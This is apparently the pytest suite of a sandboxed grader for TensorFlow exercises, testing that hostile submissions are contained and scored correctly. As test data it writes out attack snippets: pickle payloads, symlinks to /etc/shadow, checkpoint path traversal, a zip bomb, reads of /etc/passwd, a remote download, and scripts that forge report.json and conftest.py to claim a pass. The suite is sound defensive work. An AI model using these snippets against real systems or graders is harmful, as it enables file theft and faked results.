"""Strangers' scripts, whole checks: whatever they try, the report is right and the next script is checked as ever."""

from __future__ import annotations

import os
import pickle
import struct
from collections.abc import Callable
from pathlib import Path

import pytest

from checker.catalog import EXERCISES
from checker.engine.workshop import Options, Workshop
from checker.outcome import CheckResult, Report, Status
from checker.report.json import as_json
from checker.report.junit import as_junit
from checker.selftest.corpus import SUBMISSIONS

RIGHT = (SUBMISSIONS / "ex01_plain" / "ex01.py").read_text("utf-8")
LOGDIR = "logdir/ex01"

Check = Callable[[str], Report]


@pytest.fixture
def check(workshop: Workshop, tmp_path: Path) -> Check:
    """Check a text as ex01 and publish its run below tmp_path."""

    def run(text: str) -> Report:
        script = tmp_path / "ex01.py"
        script.write_text(text, "utf-8")
        report = workshop.check(EXERCISES["ex01"], script, Options(timeout_s=300, publish_to=tmp_path))
        as_junit([report])
        as_json([report]).encode("utf-8", "backslashreplace")
        assert [result.detail for result in report.checks if result.status is Status.ERROR] == []
        assert report.isolation == "bubblewrap"
        return report

    return run


def failures(report: Report) -> list[CheckResult]:
    return [result for result in report.checks if result.status is Status.FAIL]


PASSES = {
    "leaves a daemon": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(600)\n    os._exit(0)\n",
    "kills its parent": "import os\nos.kill(os.getppid(), 9)\n",
    "prints control sequences": "print('\\x1b[2J\\x1b]0;owned\\x07' + chr(0x202e) + '\\x00')\n",
    "prints what is not UTF-8": "import os\nos.write(1, b'\\xff\\xfe\\x80\\n')\n",
    "prints 10 MB on one line": "print('x' * 10_000_000)\n",
    "forges the files of a checker": """
import json, os
for name in ("report.json", "results.json", "conftest.py", "setup.cfg", "pytest.ini", "sitecustomize.py", "tensorflow.py"):
    for folder in (".", "..", "logdir", "logdir/ex01"):
        open(os.path.join(folder, name), "w").write(json.dumps({"schema": 1, "status": "pass"}))
""",
    "goes on in another process": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'while True: pass'])\n",
    "opens a window with tkinter": "import tkinter\ntkinter.Tk().mainloop()\n",
    "opens a window": "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()\n",
    "pickles into a .npy": """
import numpy as np
class Evil:
    def __reduce__(self):
        return (open, ("/tmp/owned", "w"))
np.save("logdir/ex01/values.npy", np.array([Evil()], dtype=object))
""",
}


@pytest.mark.parametrize("text", PASSES.values(), ids=PASSES.keys())
def test_a_right_script_stays_right_whatever_it_does_besides(check: Check, tmp_path: Path, text: str) -> None:
    before = sorted(os.listdir(tmp_path))
    report = check(RIGHT + "\n" + text)
    assert failures(report) == []
    assert report.status is Status.PASS
    assert not any(ord(character) < 32 and character not in "\n\t" for character in report.output)
    assert sorted({*os.listdir(tmp_path)} - {"ex01.py", "logdir"}) == [name for name in before if name != "ex01.py"]


FAILS = {
    "ends before the work by os._exit(0)": ("import os\nos._exit(0)\n", "-248820"),
    "ends before the work by sys.exit(0)": ("import sys\nsys.exit(0)\n", "-248820"),
    "claims success as its exit status": ("import sys\nprint('PASS')\nsys.exit(0)\n", "-248820"),
    "replaces sys.stdout": ("import io, sys\nsys.stdout = io.StringIO()\nprint('-248820')\n", "-248820"),
    "waits for input": ("input('ready? ')\n", "the script runs to its end"),
    "imports what it downloads": (
        "import urllib.request\nurllib.request.urlopen('http://example.org/evil.py')\n",
        "the script runs to its end",
    ),
}


@pytest.mark.parametrize(("text", "expected"), FAILS.values(), ids=FAILS.keys())
def test_a_script_that_leaves_nothing_fails_for_that(check: Check, text: str, expected: str) -> None:
    first = failures(check(text + RIGHT))[0]
    assert first.expected == expected
    assert check(RIGHT).status is Status.PASS


FORGED = {
    "links its event file to a secret": """
import glob, os
(path,) = glob.glob("logdir/ex01/events*")
os.remove(path); os.symlink("/etc/shadow", path)
""",
    "links its logdir to another folder": "import os, shutil\nshutil.rmtree('logdir/ex01'); os.symlink('/usr', 'logdir/ex01')",
    "leads the checkpoint file out of the folder": """
import os, shutil
for name in os.listdir("logdir/ex01"):
    if name.startswith("model"): shutil.move("logdir/ex01/" + name, "/tmp/" + name)
open("logdir/ex01/checkpoint", "w").write('model_checkpoint_path: "../../../../../../tmp/model"')
""",
    "puts a pipe in place of the checkpoint": "import os\nos.remove('logdir/ex01/model.index'); os.mkfifo('logdir/ex01/model.index')",
    "puts a zip bomb in place of the checkpoint": """
import zipfile
with zipfile.ZipFile("logdir/ex01/model.index", "w", zipfile.ZIP_DEFLATED) as bomb:
    bomb.writestr("zeros", bytes(100 << 20))
""",
    "claims a record of 2^40 bytes": f"""
import glob
open(glob.glob("logdir/ex01/events*")[0], "wb").write({struct.pack("<QI", 1 << 40, 0)!r} + b"x" * 100)
""",
    "pickles its checkpoint": f"""
open("logdir/ex01/model.index", "wb").write({pickle.dumps(os.getcwd)!r})
""",
}


@pytest.mark.parametrize("text", FORGED.values(), ids=FORGED.keys())
def test_a_forged_artifact_is_refused(check: Check, text: str) -> None:
    assert failures(check(RIGHT + "\n" + text))
    assert check(RIGHT).status is Status.PASS


OPERATIONS = {
    "WriteFile": "tf.io.write_file('/tmp/owned', 'x')",
    "ReadFile": "tf.io.read_file('/etc/passwd')",
    "PrintV2": "tf.raw_ops.PrintV2(input='PASS', output_stream='file:///tmp/owned')",
    "EagerPyFunc or PyFunc": "tf.py_func(lambda: np.float32(0), [], tf.float32)",
}


@pytest.mark.parametrize("operation", OPERATIONS.values(), ids=OPERATIONS.keys())
def test_an_operation_that_reaches_out_of_the_graph_is_never_run_by_the_checker(check: Check, operation: str) -> None:
    made = f"op = {operation}\nwith tf.control_dependencies([op]):\n    result = tf.identity(result)\nsaver = "
    script = RIGHT.replace("saver = ", made, 1).replace("import tensorflow", "import numpy as np\nimport tensorflow", 1)
    assert made in script
    report = check(script)
    assert report.status in (Status.FAIL, Status.PASS)
    assert not Path("/tmp/owned").exists()
    refused = [result.actual + result.hint for result in failures(report)]
    assert report.status is Status.PASS or any(word in text for text in refused for word in operation.split(".")), refused


def test_a_forged_saver_is_not_used(check: Check) -> None:
    forged = """
from tensorflow.core.protobuf import meta_graph_pb2
meta = meta_graph_pb2.MetaGraphDef.FromString(open("logdir/ex01/model.meta", "rb").read())
for node in meta.graph_def.node:
    if node.op in ("RestoreV2", "SaveV2"):
        node.op = "ReadFile"
meta.saver_def.restore_op_name = "save/Const"
meta.saver_def.filename_tensor_name = "/etc/passwd:0"
open("logdir/ex01/model.meta", "wb").write(meta.SerializeToString())
"""
    assert check(RIGHT + forged).status is Status.PASS


@pytest.mark.parametrize("name", ["tensorflow.py", "numpy.py", "pytest.py", "ex01 (copy).py", "é.py", "-v.py"])
def test_a_script_may_have_any_name(workshop: Workshop, tmp_path: Path, name: str) -> None:
    script = tmp_path / name
    script.write_text(RIGHT, "utf-8")
    report = workshop.check(EXERCISES["ex01"], script, Options())
    assert report.status is Status.PASS
